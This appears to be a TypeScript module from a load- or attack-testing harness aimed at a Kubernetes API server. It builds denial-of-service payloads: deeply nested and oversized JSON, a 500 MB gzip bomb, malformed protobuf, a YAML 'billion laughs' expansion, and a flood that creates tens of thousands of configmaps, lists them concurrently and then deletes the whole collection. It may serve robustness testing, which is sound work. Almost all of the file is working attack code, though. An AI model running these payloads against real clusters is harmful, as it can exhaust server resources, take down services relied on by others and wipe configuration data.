/** Documents that are small to send and large to read. */
import { gzipSync } from 'node:zlib'
import { oneAfterAnother, type Request, repeatedly, scaled, type WholeAttack } from './attack-outcome.ts'
import { send } from './attack-run.ts'

const configMaps = '/api/v1/namespaces/default/configmaps?dryRun=All'
const definitions = '/apis/apiextensions.k8s.io/v1/customresourcedefinitions?dryRun=All'
const named = (more: object) => JSON.stringify({ metadata: { name: 'attack', ...more } })
const nested = (depth: number) => `{"metadata":{"name":"a"},"data":${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}}`
const keys = (count: number) =>
  `{"metadata":{"name":"a"},"data":{${Array.from({ length: count }, (_, index) => `"k${index}":"v"`).join(',')}}}`
const owner = (index: number) => ({ apiVersion: 'v1', kind: 'Pod', name: `p${index}`, uid: `u${index}` })

export const documents: WholeAttack = (target, scale) => repeatedly(scale, () => oneAfterAnother(target, largeDocuments()))

const largeDocuments = (): Request[] => [
  ['POST', configMaps, nested(100_000)],
  ['POST', configMaps, keys(180_000)],
  ['POST', configMaps, named({ ownerReferences: Array.from({ length: 29_000 }, (_, index) => owner(index)) })],
  ['POST', configMaps, `{"metadata":{"name":"a"},"data":{"a":"${'x'.repeat(2_900_000)}"}}`],
  ['POST', definitions, manyVersions(20_000)],
  ['POST', definitions, largeSchema(9000)],
  ['POST', '/apis/storage.k8s.io/v1/storageclasses?dryRun=All', topologies(3000)],
  [
    'POST',
    '/api/v1/namespaces/default/resourcequotas?dryRun=All',
    JSON.stringify({ metadata: { name: 'a' }, spec: { scopes: Array(3000).fill('x') } }),
  ],
  ['POST', '/api/v1/namespaces/default/pods?dryRun=All', spreadPod(20_000)],
]

const definition = (versions: readonly object[]) => {
  const names = { plural: 'as', kind: 'A', singular: 'a', listKind: 'AList' }
  return JSON.stringify({ metadata: { name: 'as.example.com' }, spec: { group: 'example.com', scope: 'Namespaced', names, versions } })
}
const manyVersions = (count: number) =>
  definition(Array.from({ length: count }, (_, index) => ({ name: `v${index + 1}`, served: true, storage: index === 0 })))
const largeSchema = (count: number) => {
  const property = { type: 'object', properties: { a: { type: 'string', description: 'words that fill the schema of a definition' } } }
  const properties = Object.fromEntries(Array.from({ length: count }, (_, index) => [`property${index}`, property]))
  const openAPIV3Schema = { type: 'object', properties: { spec: { type: 'object', properties } } }
  return definition([{ name: 'v1', served: true, storage: true, schema: { openAPIV3Schema } }])
}
const topologies = (count: number) =>
  JSON.stringify({ metadata: { name: 'a' }, provisioner: 'p', allowedTopologies: Array.from({ length: count }, () => ({})) })
const spreadPod = (count: number) => {
  const constraint = { maxSkew: 1, topologyKey: 'zone', whenUnsatisfiable: 'DoNotSchedule' }
  const spec = { containers: [{ name: 'c', image: 'i' }], topologySpreadConstraints: Array.from({ length: count }, () => constraint) }
  return JSON.stringify({ metadata: { name: 'a' }, spec })
}

const megabyte = 1_000_000
const repeated = (unit: Buffer | string, bytes: number) => {
  const one = Buffer.from(unit as string)
  return Buffer.alloc(Math.floor(bytes / one.length) * one.length, one)
}
const varint = (value: number): number[] => (value < 128 ? [value] : [(value & 127) | 128, ...varint(Math.floor(value / 128))])
const field = (number: number, content: Buffer) =>
  Buffer.concat([Buffer.from(varint((number << 3) | 2)), Buffer.from(varint(content.length)), content])
const ofKind = (apiVersion: string, kind: string, raw: Buffer) => {
  const typeMeta = Buffer.concat([field(1, Buffer.from(apiVersion)), field(2, Buffer.from(kind))])
  return Buffer.concat([Buffer.from('k8s\0'), field(1, typeMeta), field(2, raw)])
}
const protobuf = 'application/vnd.kubernetes.protobuf'
const yaml = 'application/yaml'

function nestedMessages(depth: number): Buffer {
  let message: Buffer = Buffer.alloc(0)
  for (let index = 0; index < depth; index++) message = field(1, message)
  return message
}

/** Each name stands for nine of the one before. */
function laughs(): string {
  const names = 'abcdefghij'
  const lines = [...names].map(
    (name, index) =>
      `${name}: &${name} [${Array(9)
        .fill(index === 0 ? 'x' : `*${names[index - 1]}`)
        .join(',')}]`,
  )
  return `${lines.join('\n')}\n`
}

export const bombs: WholeAttack = (target, scale) => repeatedly(scale, () => oneAfterAnother(target, smallDocuments(scale)))

const smallDocuments = (scale: number): Request[] => [
  ['POST', configMaps, gzipSync(Buffer.alloc(scaled(500, scale) * megabyte)), 'application/json', { 'content-encoding': 'gzip' }],
  ['POST', configMaps, ofKind('v1', 'ConfigMap', field(1, repeated(Buffer.from([(13 << 3) | 2, 0]), 2.9 * megabyte))), protobuf],
  ['POST', configMaps, ofKind('v1', 'ConfigMap', repeated(Buffer.from([(2 << 3) | 2, 0]), 2.9 * megabyte)), protobuf],
  ['POST', configMaps, ofKind('v1', 'ConfigMap', repeated(Buffer.from([0xf8, 0x07, 0]), 2.9 * megabyte)), protobuf],
  ['POST', definitions, ofKind('apiextensions.k8s.io/v1', 'CustomResourceDefinition', nestedMessages(5000)), protobuf],
  ['POST', configMaps, laughs(), yaml],
  ['POST', configMaps, `metadata: ${'['.repeat(9000)}`, yaml],
  ['POST', configMaps, `metadata:\n  name: a\n  finalizers:\n${'  - a\n'.repeat(480_000)}`, yaml],
  ['POST', configMaps, `{"metadata":{"name":"a"},"data":{"a":${'1'.repeat(2.9 * megabyte)}}}`],
  ['POST', configMaps, `{"metadata":${' '.repeat(2.9 * megabyte)}{"name":"a"}}`],
]

/** Lists of everything, many at once. */
export const largeLists: WholeAttack = async (target, scale) => {
  const path = '/api/v1/namespaces/default/configmaps'
  const count = scaled(50_000, scale)
  const fill = 'x'.repeat(500)
  for (let index = 0; index < count; index += 50) {
    const batch = Array.from({ length: Math.min(50, count - index) }, (_, each) =>
      JSON.stringify({ metadata: { name: `l${index + each}` }, data: { fill } }),
    )
    await Promise.all(batch.map((body) => send(target, 'POST', path, body)))
  }
  const startedMs = performance.now()
  const answers = await Promise.all(Array.from({ length: 20 }, () => send(target, 'GET', path)))
  const slowestMs = performance.now() - startedMs
  await send(target, 'DELETE', path)
  return { requests: count + 21, slowestMs, answered: Math.max(...answers.map(({ bytes }) => bytes)) }
}
